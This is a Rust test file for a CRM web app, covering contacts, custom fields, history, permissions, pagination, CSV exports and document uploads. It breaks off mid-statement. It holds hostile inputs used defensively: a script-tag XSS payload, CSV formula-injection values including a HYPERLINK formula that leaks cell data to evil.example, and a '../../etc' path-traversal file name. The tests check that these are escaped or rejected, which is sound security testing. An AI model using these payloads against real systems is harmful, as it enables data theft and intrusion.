//! Contacts, companies, custom fields, history, documents, lists and exports.
//! Runs on SQLite, and on PostgreSQL when TEST_DATABASE_URL is set.

mod common;

use common::spawn;
use syncdesk::auth::model::Role;
use syncdesk::fields::model::RecordKind;
use syncdesk::fields::service::{self as fields, NewField};
use syncdesk::fields::validate::PhoneCountry;
use syncdesk::records::list::{self, ListQuery};
use syncdesk::records::model::{Actor, RecordInput};
use syncdesk::records::service;

fn country() -> PhoneCountry {
    PhoneCountry::parse("FR").expect("country")
}

fn input(values: &[(&str, &str)]) -> RecordInput {
    RecordInput {
        values: values
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect(),
        company_id: None,
    }
}

fn add_field<S>(
    app: &common::TestApp<S>,
    kind: RecordKind,
    key: &str,
    field_type: &str,
    options: &str,
) -> i64 {
    let mut conn = app.state.pool.get().expect("connection");
    fields::create(
        &mut conn,
        kind,
        &NewField {
            key: key.into(),
            label: key.to_uppercase(),
            field_type: field_type.into(),
            options: options.into(),
        },
    )
    .expect("field")
    .id
}

fn create_contact<S>(app: &common::TestApp<S>, values: &[(&str, &str)]) -> i64 {
    let mut conn = app.state.pool.get().expect("connection");
    service::create(
        &mut conn,
        RecordKind::Contact,
        &input(values),
        &Actor::system("test"),
        country(),
    )
    .expect("contact")
    .id
}

fn record_id_from(location: Option<&str>) -> i64 {
    location
        .and_then(|l| l.strip_prefix("/records/"))
        .and_then(|id| id.parse().ok())
        .expect("redirect to the record page")
}

/// The "done when": an admin adds tag1, an editor creates and edits a contact using it,
/// the list shows and filters it, the history says who did what, and a viewer only reads.
#[actix_web::test]
async fn custom_field_from_definition_to_history() {
    let mut admin = spawn().await;
    admin.signed_in_as("admin@example.org", Role::Admin).await;
    admin.get("/fields?kind=contact").await.assert_status(200);
    admin
        .post(
            "/fields?kind=contact",
            &[("key", "tag1"), ("label", "Tag 1"), ("field_type", "text")],
        )
        .await
        .assert_redirect("/fields?kind=contact");
    admin
        .get("/fields?kind=contact")
        .await
        .assert_contains("Field Tag 1 (tag1) added to contacts.")
        .assert_contains("data-field=\"tag1\"");

    let mut editor = admin.fork();
    editor
        .signed_in_as("editor@example.org", Role::Editor)
        .await;
    editor
        .get("/contacts/new")
        .await
        .assert_status(200)
        .assert_contains("name=\"f_tag1\"");
    let created = editor
        .post(
            "/contacts",
            &[
                ("f_name", "Ada Lovelace"),
                ("f_email", "ada@example.org"),
                ("f_phone", "01 23 45 67 89"),
                ("f_tag1", "vip"),
            ],
        )
        .await;
    let id = record_id_from(created.location());
    editor
        .get(&format!("/records/{id}"))
        .await
        .assert_contains("Ada Lovelace created.")
        .assert_contains("+33123456789")
        .assert_contains("vip");
    editor
        .post(
            &format!("/records/{id}"),
            &[
                ("f_name", "Ada Lovelace"),
                ("f_email", "ada@example.org"),
                ("f_phone", "+33123456789"),
                ("f_tag1", "gold"),
            ],
        )
        .await
        .assert_redirect(&format!("/records/{id}"));
    let page = editor.get(&format!("/records/{id}")).await;
    page.assert_contains("Saved: tag1 changed.");
    // Newest first: the edit, then the creation, each with who made it.
    let history = &page.body[page.body.find("id=\"history\"").expect("history")..];
    let rows: Vec<&str> = history.split("<tr>").skip(2).collect();
    assert!(
        rows[0].contains("<td>Tag 1</td>")
            && rows[0].contains("<td>vip</td>")
            && rows[0].contains("<td>gold</td>"),
        "newest first: {}",
        rows[0]
    );
    assert!(rows.iter().skip(1).any(|r| r.contains("<td>Tag 1</td>")
        && r.contains("(blank)")
        && r.contains("<td>vip</td>")));
    assert_eq!(history.matches("<td>editor</td>").count(), 5, "{history}");

    let list = editor.get("/contacts?cols=1&col=email&col=tag1").await;
    list.assert_contains("<td>gold</td>")
        .assert_contains(">Tag 1");
    create_contact(&editor, &[("name", "Bob"), ("tag1", "silver")]);
    let filtered = editor.get("/contacts?cf_tag1=gol").await;
    filtered
        .assert_contains("Ada Lovelace")
        .assert_contains("<strong>1</strong> contact");
    assert!(!filtered.body.contains(">Bob<"));

    let mut viewer = admin.fork();
    viewer
        .signed_in_as("viewer@example.org", Role::Viewer)
        .await;
    viewer
        .get("/contacts")
        .await
        .assert_status(200)
        .assert_contains("Ada Lovelace");
    let record = viewer.get(&format!("/records/{id}")).await;
    record.assert_status(200).assert_contains("gold");
    assert!(
        !record.body.contains("/edit\""),
        "no edit button for viewers"
    );
    viewer.get("/contacts/new").await.assert_status(403);
    viewer
        .get(&format!("/records/{id}/edit"))
        .await
        .assert_status(403);
    viewer
        .post("/contacts", &[("f_name", "Nope")])
        .await
        .assert_status(403);
    viewer
        .post(&format!("/records/{id}"), &[("f_tag1", "hacked")])
        .await
        .assert_status(403);
    viewer
        .post(&format!("/records/{id}/archive"), &[("value", "true")])
        .await
        .assert_status(403);
    viewer
        .post(
            &format!("/records/{id}/forced-manual"),
            &[("value", "true")],
        )
        .await
        .assert_status(403);
    viewer.get("/fields").await.assert_status(403);
    editor.get("/fields").await.assert_status(403);
    editor
        .post(
            "/fields?kind=contact",
            &[("key", "tag2"), ("label", "Tag 2"), ("field_type", "text")],
        )
        .await
        .assert_status(403);
    assert!(editor
        .get(&format!("/records/{id}"))
        .await
        .body
        .contains("gold"));
}

#[actix_web::test]
async fn every_type_is_validated_on_the_form_and_nothing_is_half_written() {
    let mut app = spawn().await;
    app.signed_in_as("editor@example.org", Role::Editor).await;
    add_field(&app, RecordKind::Contact, "birthday", "date", "");
    add_field(&app, RecordKind::Contact, "credit", "number", "");
    add_field(&app, RecordKind::Contact, "segment", "list", "Gold\nSilver");
    let bad = [
        ("f_name", ""),
        ("f_email", "ada@"),
        ("f_phone", "12"),
        ("f_birthday", "31/12/2020"),
        ("f_credit", "12,5"),
        ("f_segment", "Bronze"),
    ];
    let res = app.post("/contacts", &bad).await;
    res.assert_status(422)
        .assert_contains("Nothing was saved")
        .assert_contains("Name: is required")
        .assert_contains("Email: &#39;ada@&#39; is not a valid email address")
        .assert_contains("Phone: &#39;12&#39; is not a valid phone number")
        .assert_contains("BIRTHDAY: &#39;31/12/2020&#39; is not a date written as YYYY-MM-DD")
        .assert_contains("CREDIT: &#39;12,5&#39; is not a number")
        .assert_contains("SEGMENT: &#39;Bronze&#39; is not one of the options: Gold, Silver")
        // What was typed stays in the form.
        .assert_contains("value=\"31/12/2020\"");
    let mut conn = app.state.pool.get().expect("connection");
    let page = list::page(&mut conn, &ListQuery::new(RecordKind::Contact), &[]).expect("page");
    assert_eq!(page.total.count, 0, "nothing stored");
    drop(conn);

    let good = [
        ("f_name", "Ada"),
        ("f_email", "Ada@Example.org"),
        ("f_phone", "+44 20 7946 0958"),
        ("f_birthday", "2020-12-31"),
        ("f_credit", "1500.50"),
        ("f_segment", "gold"),
    ];
    let id = record_id_from(app.post("/contacts", &good).await.location());
    let page = app.get(&format!("/records/{id}")).await;
    for normalised in [
        "Ada@example.org",
        "+442079460958",
        "2020-12-31",
        "1500.5",
        "Gold",
    ] {
        page.assert_contains(normalised);
    }

    // An edit with one bad value changes nothing at all.
    let res = app
        .post(
            &format!("/records/{id}"),
            &[("f_name", "Ada B"), ("f_credit", "lots")],
        )
        .await;
    res.assert_status(422)
        .assert_contains("CREDIT: &#39;lots&#39; is not a number");
    let page = app.get(&format!("/records/{id}")).await;
    assert!(!page.body.contains("Ada B"));
}

#[actix_web::test]
async fn every_write_path_leaves_a_history_row() {
    let mut app = spawn().await;
    app.signed_in_as("ed@example.org", Role::Editor).await;
    add_field(&app, RecordKind::Contact, "passport", "document", "");
    // Path 1: a service call from another part of the system (imports, applications use it).
    let id = create_contact(&app, &[("name", "Grace"), ("email", "grace@example.org")]);
    // Path 2: the edit form.
    app.post(
        &format!("/records/{id}"),
        &[("f_email", "grace@navy.example")],
    )
    .await
    .assert_redirect(&format!("/records/{id}"));
    // Path 3: flags.
    app.post(
        &format!("/records/{id}/forced-manual"),
        &[("value", "true")],
    )
    .await
    .assert_redirect(&format!("/records/{id}"));
    app.post(&format!("/records/{id}/archive"), &[("value", "true")])
        .await
        .assert_redirect(&format!("/records/{id}"));
    app.post(&format!("/records/{id}/archive"), &[("value", "false")])
        .await
        .assert_redirect(&format!("/records/{id}"));
    // Path 4: a document upload.
    app.get(&format!("/records/{id}")).await;
    app.upload(
        &format!("/records/{id}/documents/passport"),
        "scan.pdf",
        b"%PDF-1.7 test",
        true,
    )
    .await
    .assert_redirect(&format!("/records/{id}"));

    let mut conn = app.state.pool.get().expect("connection");
    let rows = service::history_of(&mut conn, id, 100).expect("history");
    let seen: Vec<(String, String, String, String)> = rows
        .iter()
        .map(|h| {
            (
                h.field_key.clone(),
                h.old_text().to_string(),
                h.new_text().to_string(),
                h.who(),
            )
        })
        .collect();
    let expect = |field: &str, old: &str, who: &str| {
        assert!(
            seen.iter()
                .any(|(f, o, _, w)| f == field && o == old && w == who),
            "no history row for {field} (old {old:?}) by {who}: {seen:#?}"
        );
    };
    expect("name", "", "test (system)");
    expect("email", "", "test (system)");
    expect("email", "grace@example.org", "ed");
    expect("forced_manual", "no", "ed");
    expect("archived", "no", "ed");
    expect("archived", "yes", "ed");
    expect("passport", "", "ed");
    assert_eq!(rows.len(), 7, "{seen:#?}");
    // Newest first.
    assert_eq!(rows[0].field_key, "passport");
}

#[actix_web::test]
async fn script_in_a_name_is_shown_as_text_everywhere() {
    let mut app = spawn().await;
    app.signed_in_as("ed@example.org", Role::Editor).await;
    let evil = "<script>alert(1)</script>";
    let id = record_id_from(app.post("/contacts", &[("f_name", evil)]).await.location());
    for path in [
        format!("/records/{id}"),
        format!("/records/{id}/edit"),
        "/contacts".to_string(),
        "/contacts?q=script".to_string(),
    ] {
        let page = app.get(&path).await;
        page.assert_status(200);
        assert!(!page.body.contains(evil), "{path} shows raw markup");
        page.assert_contains("&#60;script&#62;alert(1)&#60;/script&#62;");
    }
    let fragment = app
        .htmx(actix_web::http::Method::GET, "/contacts?q=alert")
        .await;
    assert!(!fragment.body.contains(evil));
    fragment.assert_contains("&#60;script&#62;");
}

#[actix_web::test]
async fn keyset_pagination_edges() {
    let mut app = spawn().await;
    app.signed_in_as("viewer@example.org", Role::Viewer).await;
    let mut conn = app.state.pool.get().expect("connection");
    let kind = RecordKind::Contact;
    let mut q = ListQuery::new(kind);
    q.limit = 3;

    // Empty.
    let page = list::page(&mut conn, &q, &[]).expect("page");
    assert_eq!(
        (page.rows.len(), page.total.count, page.next.is_none()),
        (0, 0, true)
    );
    drop(conn);
    app.get("/contacts")
        .await
        .assert_contains("No contacts to show.");

    // One short page, then exactly one page: no "next" either way.
    for name in ["Ann", "Bea"] {
        create_contact(&app, &[("name", name)]);
    }
    let mut conn = app.state.pool.get().expect("connection");
    let page = list::page(&mut conn, &q, &[]).expect("page");
    assert_eq!((page.rows.len(), page.next.is_none()), (2, true));
    drop(conn);
    create_contact(&app, &[("name", "Cy")]);
    let mut conn = app.state.pool.get().expect("connection");
    let page = list::page(&mut conn, &q, &[]).expect("page");
    assert_eq!(
        (page.rows.len(), page.total.count, page.next.is_none()),
        (3, 3, true)
    );
    drop(conn);

    // Seven rows, two with the same name: pages of three meet every row once, in order.
    for name in ["Dee", "Eve", "Eve", "Flo"] {
        create_contact(&app, &[("name", name)]);
    }
    let mut conn = app.state.pool.get().expect("connection");
    let first = list::page(&mut conn, &q, &[]).expect("page");
    let names = |p: &list::Page| {
        p.rows
            .iter()
            .map(|r| r.record.name.clone())
            .collect::<Vec<_>>()
    };
    assert_eq!(names(&first), ["Ann", "Bea", "Cy"]);
    assert_eq!(first.total.count, 7);
    // A row of the first page disappears before the second page is read: nothing shifts.
    let bea = first.rows[1].record.id;
    service::set_archived(&mut conn, bea, true, &Actor::system("test")).expect("archive");
    q.after = first.next.clone();
    let second = list::page(&mut conn, &q, &[]).expect("page");
    assert_eq!(names(&second), ["Dee", "Eve", "Eve"]);
    q.after = second.next.clone();
    let third = list::page(&mut conn, &q, &[]).expect("page");
    assert_eq!(names(&third), ["Flo"]);
    assert!(third.next.is_none());

    // Descending, through the web page and its "Next page" link.
    drop(conn);
    let page = app.get("/contacts?sort=name&dir=desc").await;
    page.assert_contains("<strong>6</strong> contacts");
    assert!(
        !page.body.contains("id=\"next-page\""),
        "six rows fit one page of fifty"
    );
}

#[actix_web::test]
async fn next_page_link_over_the_page_size() {
    let mut app = spawn().await;
    app.signed_in_as("viewer@example.org", Role::Viewer).await;
    let mut conn = app.state.pool.get().expect("connection");
    for i in 0..(list::PAGE_SIZE + 1) {
        service::create(
            &mut conn,
            RecordKind::Company,
            &input(&[("name", &format!("Company {i:03}"))]),
            &Actor::system("test"),
            country(),
        )
        .expect("company");
    }
    drop(conn);
    let first = app.get("/companies").await;
    first
        .assert_contains("<strong>51</strong> companies")
        .assert_contains("Company 049");
    assert!(!first.body.contains("Company 050"));
    let start = first
        .body
        .find("id=\"next-page\"")
        .map(|_| ())
        .and_then(|_| {
            let href_at = first.body.rfind("href=\"/companies?after=")?;
            let rest = &first.body[href_at + 6..];
            Some(rest[..rest.find('"')?].replace("&#38;", "&"))
        });
    let next = start.expect("a next-page link");
    let second = app.get(&next).await;
    second
        .assert_contains("Company 050")
        .assert_contains("First page");
    assert!(!second.body.contains("Company 049"));
    assert!(!second.body.contains("id=\"next-page\""));
}

/// Every contact's name, sorted by `key`, read two to a page through the keyset cursors.
fn names_sorted_by(
    conn: &mut syncdesk::db::DbConn,
    defs: &[syncdesk::fields::model::FieldDef],
    key: &str,
    descending: bool,
) -> Vec<String> {
    let mut q = ListQuery::new(RecordKind::Contact);
    q.sort = list::SortKey::parse(key, defs);
    q.descending = descending;
    q.limit = 2;
    let mut seen = Vec::new();
    loop {
        let page = list::page(conn, &q, &[]).expect("page");
        seen.extend(page.rows.iter().map(|r| r.record.name.clone()));
        match page.next {
            Some(next) => q.after = Some(next),
            None => return seen,
        }
    }
}

#[actix_web::test]
async fn sorting_by_a_custom_field_pages_through_it() {
    let app = spawn().await;
    add_field(&app, RecordKind::Contact, "rank", "text", "");
    for (name, rank) in [("A", "c"), ("B", "a"), ("C", ""), ("D", "b"), ("E", "a")] {
        create_contact(&app, &[("name", name), ("rank", rank)]);
    }
    let mut conn = app.state.pool.get().expect("connection");
    let defs = fields::list(&mut conn, RecordKind::Contact, false).expect("defs");
    for descending in [false, true] {
        let seen = names_sorted_by(&mut conn, &defs, "rank", descending);
        // By value, ties by creation order (reversed when descending); blanks last both ways.
        let expected = if descending {
            ["A", "D", "E", "B", "C"]
        } else {
            ["B", "E", "D", "A", "C"]
        };
        assert_eq!(seen, expected, "descending: {descending}");
    }
    // A search narrows the sorted list.
    let mut q = ListQuery::new(RecordKind::Contact);
    q.sort = list::SortKey::parse("rank", &defs);
    q.search = "e".into();
    let page = list::page(&mut conn, &q, &[]).expect("page");
    let names: Vec<_> = page.rows.iter().map(|r| r.record.name.as_str()).collect();
    assert_eq!(names, ["E"]);
    // A filter that keeps none reads the field's values to their end and stops.
    let mut q = ListQuery::new(RecordKind::Contact);
    q.sort = list::SortKey::parse("rank", &defs);
    q.owner = list::OwnerFilter::Synced;
    q.limit = 1;
    let page = list::page(&mut conn, &q, &[]).expect("page");
    assert!(page.rows.is_empty() && page.next.is_none());
}

#[actix_web::test]
async fn a_number_field_sorts_by_value_both_ways_and_pages_through_it() {
    let app = spawn().await;
    add_field(&app, RecordKind::Contact, "deal", "number", "");
    let deals = [
        ("A", "800"),
        ("B", "450"),
        ("C", "300"),
        ("D", "2600"),
        ("E", "15000"),
        ("F", "1200"),
        ("G", ""),
        ("H", "-5.5"),
        ("I", "1200"),
    ];
    for (name, deal) in deals {
        create_contact(&app, &[("name", name), ("deal", deal)]);
    }
    let mut conn = app.state.pool.get().expect("connection");
    let defs = fields::list(&mut conn, RecordKind::Contact, false).expect("defs");
    for descending in [false, true] {
        let seen = names_sorted_by(&mut conn, &defs, "deal", descending);
        // Blanks last both ways.
        let mut expected = vec!["H", "C", "B", "A", "F", "I", "D", "E"];
        if descending {
            expected.reverse();
        }
        expected.push("G");
        assert_eq!(seen, expected, "descending: {descending}");
    }
}

#[actix_web::test]
async fn phones_read_in_international_format_with_spaces() {
    let mut app = spawn().await;
    let id = create_contact(&app, &[("name", "Zoé"), ("phone", "01 42 68 53 00")]);
    let stored = service::find(&mut app.state.pool.get().expect("connection"), id)
        .expect("find")
        .expect("record");
    assert_eq!(stored.phone, "+33142685300");
    app.signed_in_as("viewer@example.org", Role::Viewer).await;
    app.get("/contacts")
        .await
        .assert_contains("+33 1 42 68 53 00");
    app.get(&format!("/records/{id}"))
        .await
        .assert_contains("+33 1 42 68 53 00");
}

#[actix_web::test]
async fn csv_export_is_safe_in_a_spreadsheet() {
    let mut app = spawn().await;
    app.signed_in_as("viewer@example.org", Role::Viewer).await;
    add_field(&app, RecordKind::Contact, "note", "text", "");
    create_contact(
        &app,
        &[
            ("name", "=HYPERLINK(\"http://evil.example\")"),
            ("phone", "+33 1 23 45 67 89"),
            ("note", "@SUM(1+1)"),
        ],
    );
    create_contact(
        &app,
        &[
            ("name", "Plain, \"quoted\" name"),
            ("note", "line one\nline two"),
        ],
    );
    let res = app
        .get("/contacts/export.csv?cols=1&col=phone&col=note")
        .await;
    res.assert_status(200);
    assert!(res
        .header("content-type")
        .unwrap_or_default()
        .starts_with("text/csv"));
    assert!(res
        .header("content-disposition")
        .unwrap_or_default()
        .contains("attachment"));
    let mut reader = csv::Reader::from_reader(res.body.as_bytes());
    let headers = reader.headers().expect("headers").clone();
    assert_eq!(
        headers.iter().collect::<Vec<_>>(),
        ["id", "Name", "Phone", "NOTE"]
    );
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.expect("row").iter().map(str::to_string).collect())
        .collect();
    assert_eq!(rows.len(), 2);
    let evil = rows
        .iter()
        .find(|r| r[1].contains("HYPERLINK"))
        .expect("row");
    assert_eq!(evil[1], "'=HYPERLINK(\"http://evil.example\")");
    // A plain E.164 phone is data, not a formula: no apostrophe.
    assert_eq!(evil[2], "+33123456789");
    assert_eq!(evil[3], "'@SUM(1+1)");
    let plain = rows
        .iter()
        .find(|r| r[1].starts_with("Plain"))
        .expect("row");
    assert_eq!(plain[1], "Plain, \"quoted\" name");
    assert_eq!(plain[3], "line one\nline two");

    // The export follows the list's filters.
    let filtered = app.get("/contacts/export.csv?q=plain").await;
    assert_eq!(filtered.body.lines().count(), 2, "{}", filtered.body);
}

/// The follow-up render is a CSV a mailing tool (or a person) opens in a spreadsheet: a
/// contact's name that is a formula reaches no cell as one, the error column included.
#[actix_web::test]
async fn followup_render_csv_is_safe_in_a_spreadsheet() {
    let mut app = spawn().await;
    create_contact(
        &app,
        &[
            ("name", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
            ("email", "evil@example.org"),
        ],
    );
    create_contact(&app, &[("name", "-2+3"), ("email", "minus@example.org")]);
    app.signed_in_as("editor@example.org", Role::Editor).await;
    let saved = app
        .post(
            "/templates",
            &[
                ("name", "Hello"),
                ("kind", "contact"),
                ("subject", "{{ contact.name }}"),
                ("body", "@{{ contact.email }}"),
            ],
        )
        .await;
    let url = saved.location().expect("template").to_string();
    let csv = app.get(&format!("{url}/render.csv")).await;
    csv.assert_status(200);
    let mut reader = csv::Reader::from_reader(csv.body.as_bytes());
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.expect("row").iter().map(str::to_string).collect())
        .collect();
    assert_eq!(rows.len(), 2, "{}", csv.body);
    let evil = rows
        .iter()
        .find(|r| r[1] == "evil@example.org")
        .expect("row");
    assert_eq!(evil[2], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
    assert_eq!(evil[3], "'@evil@example.org");
    let minus = rows
        .iter()
        .find(|r| r[1] == "minus@example.org")
        .expect("row");
    assert_eq!(minus[2], "'-2+3");
    for cell in rows.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?} in {}",
            csv.body
        );
    }
}

#[actix_web::test]
async fn documents_upload_download_and_refusals() {
    let mut app = spawn().await;
    app.signed_in_as("ed@example.org", Role::Editor).await;
    add_field(&app, RecordKind::Contact, "passport", "document", "");
    let id = create_contact(&app, &[("name", "Hedy")]);
    app.get(&format!("/records/{id}"))
        .await
        .assert_contains("enctype=\"multipart/form-data\"");
    let path = format!("/records/{id}/documents/passport");

    app.upload(&path, "scan.pdf", b"%PDF-1.7 hello", false)
        .await
        .assert_status(403);
    app.upload(&path, "tool.exe", b"MZ....", true)
        .await
        .assert_status(400)
        .assert_contains("not an accepted kind of file");
    app.upload(&path, "fake.pdf", b"<html>not a pdf</html>", true)
        .await
        .assert_status(400)
        .assert_contains("does not contain what its .pdf extension says");
    let big = vec![b'a'; 1024 * 1024 + 1];
    app.upload(&path, "big.txt", &big, true)
        .await
        .assert_status(413)
        .assert_contains("larger than the 1 MB limit");
    app.upload(
        &format!("/records/{id}/documents/name"),
        "scan.pdf",
        b"%PDF-1.7",
        true,
    )
    .await
    .assert_status(400)
    .assert_contains("not a document field");

    app.upload(&path, "../../etc/scan.pdf", b"%PDF-1.7 hello", true)
        .await
        .assert_redirect(&format!("/records/{id}"));
    let page = app.get(&format!("/records/{id}")).await;
    page.assert_contains("scan.pdf uploaded.");
    let href_at = page.body.find("href=\"/documents/").expect("download link") + 6;
    let href = page.body[href_at..][..page.body[href_at..].find('"').expect("end")].to_string();
    let download = app.get(&href).await;
    download.assert_status(200);
    assert_eq!(download.body, "%PDF-1.7 hello");
    assert_eq!(download.header("content-type"), Some("application/pdf"));
    let disposition = download.header("content-disposition").unwrap_or_default();
    assert!(
        disposition.starts_with("attachment")
            && disposition.contains("scan.pdf")
            && !disposition.contains(".."),
        "{disposition}"
    );
    app.get("/documents/99999").await.assert_status(404);
    // Stored once under its hash, inside the data folder only.
    let store = app.db.dir.path().join("data").join("documents");
    let files: Vec<_> = walk(&store);
    assert_eq!(files.len(), 1, "{files:?}");
    assert_eq!(
        files[0].file_name().and_then(|n| n.to_str()).map(str::len),
        Some(64)
    );
}

fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            out.extend(walk(&path));
        } else {
            out.push(path);
        }
    }
    out
}

#[actix_web::test]
async fn fields_owned_by_a_source_are_read_only_until_forced_manual() {
    use diesel::prelude::*;
    use syncdesk::records::writer;
    use syncdesk::schema::{source_fields, sources};
    let mut app = spawn().await;
    app.signed_in_as("ed@example.org", Role::Editor).await;
    let id = create_contact(&app, &[("name", "Leila"), ("phone", "+61 400 000 002")]);
    let mut conn = app.state.pool.get().expect("connection");
    let now = syncdesk::db::now();
    diesel::insert_into(sources::table)
        .values((
            sources::name.eq("Practice manager"),
            sources::kind.eq("contact"),
            sources::id_column.eq("External Id"),
            sources::created_at.eq(now),
            sources::updated_at.eq(now),
        ))
        .execute(&mut conn)
        .expect("source");
    let source: i64 = sources::table
        .select(sources::id)
        .first(&mut conn)
        .expect("id");
    diesel::insert_into(source_fields::table)
        .values((
            source_fields::source_id.eq(source),
            source_fields::column_name.eq("Phone"),
            source_fields::field_key.eq("phone"),
            source_fields::to_record.eq("always"),
            source_fields::to_source.eq("never"),
        ))
        .execute(&mut conn)
        .expect("mapping");
    // The source takes the record over through the write path, as an import would.
    let (_, before) = writer::load_state(&mut conn, id)
        .expect("state")
        .expect("record");
    let mut edit = writer::Edit::change(id, before);
    edit.after.owner_source_id = Some(source);
    writer::apply_one(&mut conn, &edit, &Actor::system("test")).expect("owner");
    drop(conn);

    let form = app.get(&format!("/records/{id}/edit")).await;
    form.assert_contains("Kept in step with Practice manager (rule: always)");
    assert!(
        !form.body.contains("name=\"f_phone\""),
        "phone is not editable"
    );
    app.get(&format!("/records/{id}"))
        .await
        .assert_contains(">Practice manager</a></strong>");
    app.post(
        &format!("/records/{id}"),
        &[("f_phone", "+33 1 23 45 67 89")],
    )
    .await
    .assert_status(422)
    .assert_contains("Phone: Kept in step with Practice manager");
    // Other fields stay editable.
    app.post(
        &format!("/records/{id}"),
        &[("f_email", "leila@example.org")],
    )
    .await
    .assert_redirect(&format!("/records/{id}"));
    // The list can filter on the owner now that a source exists.
    app.get(&format!("/contacts?owner=source:{source}"))
        .await
        .assert_contains("<strong>1</strong> contact");
    app.get("/contacts?owner=manual")
        .await
        .assert_contains("<strong>0</strong> contacts");

    app.post(
        &format!("/records/{id}/forced-manual"),
        &[("value", "true")],
    )
    .await
    .assert_redirect(&format!("/records/{id}"));
    app.get(&format!("/records/{id}/edit"))
        .await
        .assert_contains("name=\"f_phone\"");
    app.post(
        &format!("/records/{id}"),
        &[("f_phone", "+33 1 23 45 67 89")],
    )
    .await
    .assert_redirect(&format!("/records/{id}"));
    app.get("/contacts?forced=yes")
        .await
        .assert_contains("Leila");
}

#[actix_web::test]
async fn companies_and_their_contacts() {
    let mut app = spawn().await;
    app.signed_in_as("ed@example.org", Role::Editor).await;
    let acme = record_id_from(
        app.post(
            "/companies",
            &[
                ("f_name", "Acme"),
                ("f_registration_number", "552 100 554"),
                ("f_address", "1 Main St"),
            ],
        )
        .await
        .location(),
    );
    let ada = record_id_from(
        app.post("/contacts", &[("f_name", "Ada"), ("company", "acme")])
            .await
            .location(),
    );
    app.get(&format!("/records/{ada}"))
        .await
        .assert_contains(&format!("<a href=\"/records/{acme}\">Acme</a>"));
    app.get(&format!("/records/{acme}"))
        .await
        .assert_contains(&format!("<a href=\"/records/{ada}\">Ada</a>"))
        .assert_contains("552 100 554");
    app.post("/contacts", &[("f_name", "Bob"), ("company", "Nope Inc")])
        .await
        .assert_status(422)
        .assert_contains("no company is named");
    app.get("/companies/suggest?company=ac")
        .await
        .assert_contains(&format!("#{acme} Acme"));
    // Clearing the company is a change with history.
    app.post(&format!("/records/{ada}"), &[("company", "")])
        .await
        .assert_redirect(&format!("/records/{ada}"));
    app.get(&format!("/records/{ada}"))
        .await
        .assert_contains("No company.");
    app.get("/contacts").await.assert_contains(">Ada<");
    // Archived records leave the list but stay reachable.
    app.post(&format!("/records/{ada}/archive"), &[("value", "true")])
        .await;
    assert!(!app.get("/contacts").await.body.contains(">Ada<"));
    app.get("/contacts?archived=1")
        .await
        .assert_contains(">Ada<");
}

#[actix_web::test]
async fn field_definitions_are_checked() {
    let mut app = spawn().await;
    app.signed_in_as("admin@example.org", Role::Admin).await;
    let post = |key: &'static str, ftype: &'static str, options: &'static str| {
        vec![
            ("key", key),
            ("label", "Label"),
            ("field_type", ftype),
            ("options", options),
        ]
    };
    app.post("/fields?kind=contact", &post("Bad Key", "text", ""))
        .await
        .assert_status(422)
        .assert_contains("must start with a lowercase letter");
    app.post("/fields?kind=contact", &post("email", "text", ""))
        .await
        .assert_status(422)
        .assert_contains("reserved");
    app.post("/fields?kind=contact", &post("level", "list", ""))
        .await
        .assert_status(422)
        .assert_contains("at least one option");
    app.post("/fields?kind=contact", &post("level", "colour", ""))
        .await
        .assert_status(422)
        .assert_contains("not a field type");
    app.post("/fields?kind=contact", &post("level", "list", "Low\nHigh"))
        .await
        .assert_redirect("/fields?kind=contact");
    app.post("/fields?kind=contact", &post("level", "text", ""))
        .await
        .assert_status(409)
        .assert_contains("already exists");
    // The same key on the other kind is fine.
    app.post("/fields?kind=company", &post("level", "text", ""))
        .await
        .assert_redirect("/fields?kind=company");

    let mut conn = app.state.pool.get().expect("connection");
    let defs = fields::list(&mut conn, RecordKind::Contact, true).expect("defs");
    let level = defs.iter().find(|d| d.key == "level").expect("level").id;
    let name = defs.iter().find(|d| d.key == "name").expect("name").id;
    drop(conn);
    create_contact(&app, &[("name", "Ada"), ("level", "high")]);
    app.post(
        &format!("/fields/{level}"),
        &[("label", "Level"), ("options", "Low")],
    )
    .await
    .assert_status(422)
    .assert_contains("Records still use the option High");
    app.post(
        &format!("/fields/{level}"),
        &[("label", "Level"), ("options", "Low\nHigh\nMedium")],
    )
    .await
    .assert_redirect("/fields?kind=contact");
    app.post(&format!("/fields/{name}/archive"), &[("archived", "true")])
        .await
        .assert_status(400)
        .assert_contains("Built-in fields cannot be archived");
    app.post(&format!("/fields/{level}/move"), &[("direction", "up")])
        .await
        .assert_redirect("/fields?kind=contact");
    let mut conn = app.state.pool.get().expect("connection");
    let keys: Vec<String> = fields::list(&mut conn, RecordKind::Contact, true)
        .expect("defs")
        .into_iter()
        .map(|d| d.key)
        .collect();
    assert_eq!(keys, ["name", "email", "level", "phone"]);
    drop(conn);
    app.post(&format!("/fields/{level}/archive"), &[("archived", "true")])
        .await
        .assert_redirect("/fields?kind=contact");
    // Archived: gone from the form, value kept and refused on write.
    assert!(!app.get("/contacts/new").await.body.contains("f_level"));
    app.post("/contacts", &[("f_name", "Bo"), ("f_level", "Low")])
        .await
        .assert_status(422)
        .assert_contains("no active field");
}

/// Totals are exact past ten thousand, follow each change of a record's group (created,
/// archived, forced manual) and survive merging; a search is still counted up to its cap.
#[actix_web::test]
async fn list_totals_are_exact_past_ten_thousand_and_follow_every_change() {
    use diesel::connection::SimpleConnection;
    use syncdesk::records::counts;
    let mut app = spawn().await;
    app.signed_in_as("ed@example.org", Role::Editor).await;
    {
        // Records written by hand into an empty database are counted (and indexed) at the
        // next start.
        let mut conn = app.state.pool.get().expect("connection");
        let series = if app.db.is_postgres() {
            "SELECT n FROM generate_series(1, 10050) AS s(n)"
        } else {
            "WITH RECURSIVE s(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM s WHERE n < 10050) \
             SELECT n FROM s"
        };
        conn.batch_execute(&format!(
            "INSERT INTO records (kind, name, name_norm, email, email_norm, phone, phone_norm, \
             created_at, updated_at) \
             SELECT 'contact', 'Person ' || n, 'person ' || n, '', '', '', '', \
             CURRENT_TIMESTAMP, CURRENT_TIMESTAMP FROM ({series}) AS numbers"
